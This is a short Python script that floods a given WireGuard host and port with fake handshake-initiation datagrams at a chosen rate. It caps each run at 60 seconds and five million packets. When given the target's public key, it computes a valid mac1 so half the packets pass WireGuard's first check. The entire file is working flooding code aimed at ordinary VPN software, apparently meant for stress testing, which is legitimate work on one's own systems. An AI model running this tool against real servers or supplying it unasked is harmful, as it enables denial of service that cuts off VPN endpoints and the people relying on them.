"""Floods a WireGuard port with fake handshake initiations, bounded in count and time.

usage: flood.py HOST PORT RATE SECONDS [PUBLIC_KEY]
Sends RATE datagrams a second for SECONDS (at most 60 s and 5,000,000
datagrams), paced every millisecond, then prints "sent N in T s (R/s)" (N: the sends that succeeded).
Each datagram is 148 bytes that begin 01 00 00 00, as an initiation does:
half random throughout; with PUBLIC_KEY (the target's, base64), the other
half carry a valid mac1 for it, which anyone who knows the public key can
compute, so they pass WireGuard's first check.
"""
import base64, hashlib, os, socket, sys, time

host, port, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
seconds = min(seconds, 60.0)
limit = min(int(rate * seconds), 5_000_000)

pool = []
key = None
if len(sys.argv) > 5:
    key = hashlib.blake2s(b"mac1----" + base64.b64decode(sys.argv[5])).digest()
for i in range(512):
    msg = bytes([1, 0, 0, 0]) + os.urandom(112)
    if key is not None and i % 2:
        mac1 = hashlib.blake2s(msg, key=key, digest_size=16).digest()
        pool.append(msg + mac1 + bytes(16))
    else:
        pool.append(msg + os.urandom(32))

family = socket.AF_INET6 if ":" in host else socket.AF_INET
s = socket.socket(family, socket.SOCK_DGRAM)
s.setblocking(False)
dest = (host, port)
sent = ok = 0
start = time.monotonic()
end = start + seconds
while sent < limit:
    now = time.monotonic()
    if now >= end:
        break
    due = min(int((now - start) * rate) + 1, limit)
    while sent < due:
        try:
            s.sendto(pool[sent % 512], dest)
            ok += 1
        except (BlockingIOError, ConnectionRefusedError):
            pass
        sent += 1
    time.sleep(0.001)
elapsed = time.monotonic() - start
print(f"sent {ok} in {elapsed:.2f} s ({ok / elapsed:.0f}/s)", flush=True)
